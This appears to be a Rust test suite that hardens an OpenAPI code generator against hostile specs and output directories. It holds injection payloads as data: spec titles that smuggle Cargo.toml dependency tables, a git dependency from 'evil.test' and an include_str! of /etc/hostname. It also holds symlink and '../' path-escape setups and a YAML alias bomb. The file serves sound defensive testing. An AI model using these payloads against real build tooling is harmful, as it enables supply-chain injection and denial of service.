//! Specs and output directories as an attacker (or an accident) would make them. Every case ends
//! in either safe output or one clear error line with exit status 1; nothing outside `--out` is
//! touched, an existing tree is either updated completely or left exactly as it was, and no
//! process crashes.
//!
//! The generated code is compiled for hostile spec text too, in the fixture workspace
//! (`codegen/tests/fixtures/hostile_text.yaml`), where an injected doctest would run.

use std::path::{Path, PathBuf};
use std::process::Output;

mod support;
use support::{scratch, snapshot, stderr, xtask};

fn generate(spec: &Path, out: &Path) -> Output {
    xtask(&[
        "generate",
        "--spec",
        spec.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ])
}

fn write_spec(dir: &Path, name: &str, text: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path
}

/// A small valid spec with the given tags (one operation each).
fn spec_with_tags(tags: &[&str]) -> String {
    let mut text = String::from("openapi: 3.0.3\ninfo: {title: Tags, version: '1'}\npaths:\n");
    for (i, tag) in tags.iter().enumerate() {
        text.push_str(&format!(
            "  /t{i}:\n    get: {{operationId: op{i}, tags: ['{tag}'], responses: {{'200': {{description: ok, content: {{application/json: {{schema: {{$ref: '#/components/schemas/A'}}}}}}}}}}}}\n"
        ));
    }
    text.push_str("components: {schemas: {A: {type: object, properties: {a: {type: string}}}}}\n");
    text
}

/// Fails with one `error:` line (no panic, exit status 1) containing `expected`.
fn assert_refused(output: &Output, expected: &str) {
    let message = stderr(output);
    assert_eq!(output.status.code(), Some(1), "{message}");
    assert!(!message.contains("panicked"), "{message}");
    let errors: Vec<&str> = message
        .lines()
        .filter(|l| l.starts_with("error: "))
        .collect();
    assert_eq!(errors.len(), 1, "{message}");
    assert!(
        errors[0].contains(expected),
        "`{expected}` missing from: {message}"
    );
}

#[test]
fn spec_text_cannot_leave_its_place_in_any_generated_file() {
    let dir = scratch("injection");
    // A title that tries to add a dependency to Cargo.toml, a doc attribute that reads a local
    // file into the docs, a DEL (invalid in TOML), a right-to-left override, and an HTML
    // comment end for the README.
    let title = r#"Evil\n[target.'cfg(all())'.dependencies]\nevil = { path = \"/tmp/evil\" }\n#![doc = include_str!(\"/etc/hostname\")] //\u007f\u202e --> <script>"#;
    let version = r#"1\n[patch.crates-io]\nserde = { git = \"https://evil.test/serde\" }"#;
    let spec = write_spec(
        &dir,
        "spec.yaml",
        &format!(
            "openapi: 3.0.3\ninfo: {{title: \"{title}\", version: \"{version}\"}}\npaths: {{}}\ncomponents: {{schemas: {{A: {{type: object, properties: {{a: {{type: string}}}}}}}}}}\n"
        ),
    );
    let out = dir.join("out");
    let output = generate(&spec, &out);
    assert!(output.status.success(), "{}", stderr(&output));

    let manifest: toml::Table = std::fs::read_to_string(out.join("Cargo.toml"))
        .unwrap()
        .parse()
        .expect("valid TOML");
    let keys: Vec<&str> = manifest.keys().map(String::as_str).collect();
    assert_eq!(
        keys,
        [
            "bin",
            "dependencies",
            "dev-dependencies",
            "features",
            "lib",
            "package"
        ],
        "no injected table"
    );
    assert!(
        !manifest["dependencies"]
            .as_table()
            .unwrap()
            .contains_key("evil")
    );
    assert!(
        manifest["package"]["description"]
            .as_str()
            .unwrap()
            .contains("[target.'cfg(all())'.dependencies]"),
        "kept as text"
    );
    for (path, contents) in snapshot(&out) {
        let text = String::from_utf8(contents).unwrap();
        let name = path.display();
        assert!(
            !text.contains('\u{7f}') && !text.contains('\u{202e}'),
            "{name} holds a raw hazard"
        );
        for line in text.lines() {
            let trimmed = line.trim_start();
            assert!(
                !trimmed.starts_with("#![doc = include_str"),
                "{name}: injected attribute: {line}"
            );
            assert!(
                !trimmed.starts_with("[target") && !trimmed.starts_with("[patch"),
                "{name}: injected table: {line}"
            );
            assert!(
                !trimmed.starts_with("evil =") && !trimmed.starts_with("serde = { git"),
                "{name}: injected key: {line}"
            );
        }
    }
    let readme = std::fs::read_to_string(out.join("README.md")).unwrap();
    assert_eq!(
        readme.matches("-->").count(),
        1,
        "the preamble comment ends once:\n{readme}"
    );
}

#[test]
fn out_refuses_a_directory_the_generator_did_not_write() {
    let dir = scratch("foreign-out");
    // Something like a clone of this repository: sources (one of which carries the old marker
    // line in its first KiB) and a .git directory.
    let foreign = dir.join("clone");
    std::fs::create_dir_all(foreign.join("codegen/src")).unwrap();
    std::fs::create_dir_all(foreign.join(".git")).unwrap();
    std::fs::write(foreign.join("codegen/src/write.rs"), "pub const MARKER: &str = \"Do not edit: change the spec or the generator, then regenerate.\";\n").unwrap();
    std::fs::write(foreign.join("README.md"), "# a project\n").unwrap();
    std::fs::write(foreign.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    let before = snapshot(&foreign);
    let spec = write_spec(&dir, "spec.yaml", &spec_with_tags(&["a"]));
    assert_refused(
        &generate(&spec, &foreign),
        "is not a crate this generator wrote",
    );
    assert_eq!(snapshot(&foreign), before);
}

#[cfg(unix)]
#[test]
fn out_never_writes_through_a_symbolic_link() {
    let dir = scratch("symlinks");
    let outside = dir.join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("types.rs"), "precious\n").unwrap();
    let out = dir.join("out");
    let first = write_spec(&dir, "a.yaml", &spec_with_tags(&["a"]));
    let second = write_spec(&dir, "b.yaml", &spec_with_tags(&["a", "b"]));
    assert!(generate(&first, &out).status.success());

    // A directory inside the output replaced by a link to elsewhere.
    std::fs::rename(out.join("src"), dir.join("src-moved")).unwrap();
    std::os::unix::fs::symlink(&outside, out.join("src")).unwrap();
    let before = (snapshot(&out), snapshot(&outside));
    assert_refused(&generate(&second, &out), "symbolic link");
    assert_eq!((snapshot(&out), snapshot(&outside)), before);

    // A file inside the output replaced by a link.
    std::fs::remove_file(out.join("src")).unwrap();
    std::fs::rename(dir.join("src-moved"), out.join("src")).unwrap();
    std::fs::remove_file(out.join("src/types.rs")).unwrap();
    std::os::unix::fs::symlink(outside.join("types.rs"), out.join("src/types.rs")).unwrap();
    assert_refused(&generate(&second, &out), "symbolic link");
    assert_eq!(
        std::fs::read_to_string(outside.join("types.rs")).unwrap(),
        "precious\n"
    );
}

#[test]
fn a_manifest_cannot_point_outside_the_output() {
    let dir = scratch("manifest-escape");
    let victim = dir.join("victim.txt");
    std::fs::write(&victim, "keep me\n").unwrap();
    let out = dir.join("out");
    let spec = write_spec(&dir, "spec.yaml", &spec_with_tags(&["a"]));
    assert!(generate(&spec, &out).status.success());
    let manifest_path = out.join(".codegen-manifest.json");
    let mut manifest: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&manifest_path).unwrap()).unwrap();
    let sha = codegen::load::sha256_hex(b"keep me\n");
    manifest["files"]["../victim.txt"] = sha.into();
    std::fs::write(&manifest_path, serde_json::to_string(&manifest).unwrap()).unwrap();
    let other = write_spec(&dir, "other.yaml", &spec_with_tags(&["b"]));
    assert_refused(&generate(&other, &out), "not a plain relative path");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me\n");
}

#[test]
fn files_no_longer_generated_are_removed_only_if_unchanged() {
    let dir = scratch("obsolete");
    let out = dir.join("out");
    let both = write_spec(&dir, "both.yaml", &spec_with_tags(&["a", "b"]));
    let only_a = write_spec(&dir, "a.yaml", &spec_with_tags(&["a"]));
    assert!(generate(&both, &out).status.success());
    // A file of the user's in the output is never touched.
    std::fs::write(out.join("src/mine.rs"), "// mine\n").unwrap();
    std::fs::write(out.join("src/apis/b.rs"), "// edited by hand\n").unwrap();
    let before = snapshot(&out);
    assert_refused(&generate(&only_a, &out), "was changed since it was");
    assert_eq!(snapshot(&out), before);

    // Unedited, it goes; the user's file stays.
    assert!(generate(&both, &out).status.success());
    let output = generate(&only_a, &out);
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(!out.join("src/apis/b.rs").exists());
    assert_eq!(
        std::fs::read_to_string(out.join("src/mine.rs")).unwrap(),
        "// mine\n"
    );
}

#[test]
fn something_in_the_way_of_staging_stops_the_run_before_any_change() {
    let dir = scratch("staging");
    let out = dir.join("out");
    let first = write_spec(&dir, "a.yaml", &spec_with_tags(&["a"]));
    let second = write_spec(&dir, "b.yaml", &spec_with_tags(&["a", "b"]));
    assert!(generate(&first, &out).status.success());
    std::fs::write(out.join(".codegen-staging"), "not ours\n").unwrap();
    let before = snapshot(&out);
    assert_refused(&generate(&second, &out), "was not made by it");
    assert_eq!(snapshot(&out), before);

    // A staging directory left by a killed run carries the marker and is cleared.
    std::fs::remove_file(out.join(".codegen-staging")).unwrap();
    std::fs::create_dir_all(out.join(".codegen-staging/new/src")).unwrap();
    std::fs::write(
        out.join(".codegen-staging/STAGING-DIRECTORY-OF-ZEPHR-CODEGEN"),
        "",
    )
    .unwrap();
    let output = generate(&second, &out);
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(!out.join(".codegen-staging").exists());
    assert!(out.join("src/apis/b.rs").exists());
}

#[test]
fn a_tag_named_mod_gets_its_own_file() {
    let dir = scratch("tag-mod");
    let out = dir.join("out");
    let spec = write_spec(
        &dir,
        "spec.yaml",
        &spec_with_tags(&["mod", "Mod", "aux", "con"]),
    );
    let output = generate(&spec, &out);
    assert!(output.status.success(), "{}", stderr(&output));
    let index = std::fs::read_to_string(out.join("src/apis/mod.rs")).unwrap();
    for module in ["mod_2", "mod_3", "aux_2", "con_2"] {
        assert!(
            index.contains(&format!("pub mod {module};")),
            "{module} in:\n{index}"
        );
        assert!(
            out.join(format!("src/apis/{module}.rs")).exists(),
            "{module}"
        );
    }
}

#[test]
fn deep_documents_are_refused_at_once_with_their_place() {
    let dir = scratch("deep");
    let depth = 100_000;
    let text = "{\"a\":".repeat(depth) + "1" + &"}".repeat(depth);
    for name in ["deep.json", "deep.yaml"] {
        let spec = write_spec(&dir, name, &text);
        let output = generate(&spec, &dir.join("out"));
        let message = stderr(&output);
        assert_eq!(output.status.code(), Some(1), "{message}");
        assert!(message.contains(&format!("{name}:1:")), "{message}");
        assert!(
            message.contains("recursion limit exceeded")
                || message.contains("nests deeper than 128"),
            "{message}"
        );
    }
    // Block style: a thousand levels of indentation.
    let mut block = String::new();
    for level in 0..1_000 {
        block.push_str(&" ".repeat(level));
        block.push_str("a:\n");
    }
    let spec = write_spec(&dir, "block.yaml", &block);
    assert_refused(
        &generate(&spec, &dir.join("out")),
        "nests deeper than 128 levels",
    );
    assert!(!dir.join("out").exists());
}

/// `allOf` chains: each schema includes the next one and adds a property.
fn all_of_chain(links: usize) -> String {
    let mut text = String::from(
        "openapi: 3.0.3\ninfo: {title: Chain, version: '1'}\npaths: {}\ncomponents:\n  schemas:\n",
    );
    for i in 0..links {
        text.push_str(&format!(
            "    S{i}: {{allOf: [{{$ref: '#/components/schemas/S{}'}}, {{properties: {{p{i}: {{type: string}}}}}}]}}\n",
            i + 1
        ));
    }
    text.push_str(&format!(
        "    S{links}: {{type: object, properties: {{last: {{type: string}}}}}}\n"
    ));
    text
}

#[test]
fn all_of_chains_are_bounded_not_exponential_or_stack_deep() {
    let dir = scratch("all-of-chain");
    for links in [1_000, 8_000] {
        let spec = write_spec(&dir, "chain.yaml", &all_of_chain(links));
        assert_refused(
            &generate(&spec, &dir.join("out")),
            "allOf parts include other allOfs more than 64 levels deep",
        );
    }
    // A chain within the limit merges every property.
    let spec = write_spec(&dir, "short.yaml", &all_of_chain(10));
    assert!(generate(&spec, &dir.join("out")).status.success());
    let types = std::fs::read_to_string(dir.join("out/src/types.rs")).unwrap();
    assert!(types.contains("pub p0: Option<String>") && types.contains("pub last: Option<String>"));
}

#[test]
fn oversized_files_and_alias_bombs_are_refused() {
    let dir = scratch("big");
    let big = dir.join("big.yaml");
    let file = std::fs::File::create(&big).unwrap();
    // Sparse: 65 MiB that take no disk space.
    file.set_len(65 * 1024 * 1024).unwrap();
    assert_refused(
        &generate(&big, &dir.join("out")),
        "more than the limit of 67108864 bytes",
    );

    let mut laughs = String::from(
        "openapi: 3.0.3\ninfo: {title: t, version: '1'}\npaths: {}\na: &a [x, x, x, x, x, x, x, x, x, x]\n",
    );
    for (i, c) in ('b'..='j').enumerate() {
        let previous = (b'a' + i as u8) as char;
        laughs.push_str(&format!(
            "{c}: &{c} [{}]\n",
            vec![format!("*{previous}"); 10].join(", ")
        ));
    }
    let spec = write_spec(&dir, "laughs.yaml", &laughs);
    assert_refused(
        &generate(&spec, &dir.join("out")),
        "repetition limit exceeded",
    );
    assert!(!dir.join("out").exists());
}

#[test]
fn a_bom_big_integers_and_raw_c1_characters_in_json_are_read() {
    let dir = scratch("readable");
    let yaml = "\u{feff}openapi: 3.0.3\ninfo: {title: t, version: '1'}\npaths: {}\ncomponents: {schemas: {N: {type: integer, minimum: -9223372036854776000, maximum: 18446744073709552000}}}\n";
    let spec = write_spec(&dir, "bom.yaml", yaml);
    let output = generate(&spec, &dir.join("out-yaml"));
    assert!(output.status.success(), "{}", stderr(&output));
    let json = "{\"openapi\": \"3.0.3\", \"info\": {\"title\": \"t\u{9f}\", \"version\": \"1\"}, \"paths\": {}}";
    let spec = write_spec(&dir, "c1.json", json);
    let output = generate(&spec, &dir.join("out-json"));
    assert!(output.status.success(), "{}", stderr(&output));
    let lib = std::fs::read_to_string(dir.join("out-json/src/lib.rs")).unwrap();
    assert!(
        lib.contains("pub const SPEC_TITLE: &str = \"t\\u{9f}\";"),
        "the value is kept, escaped"
    );
}
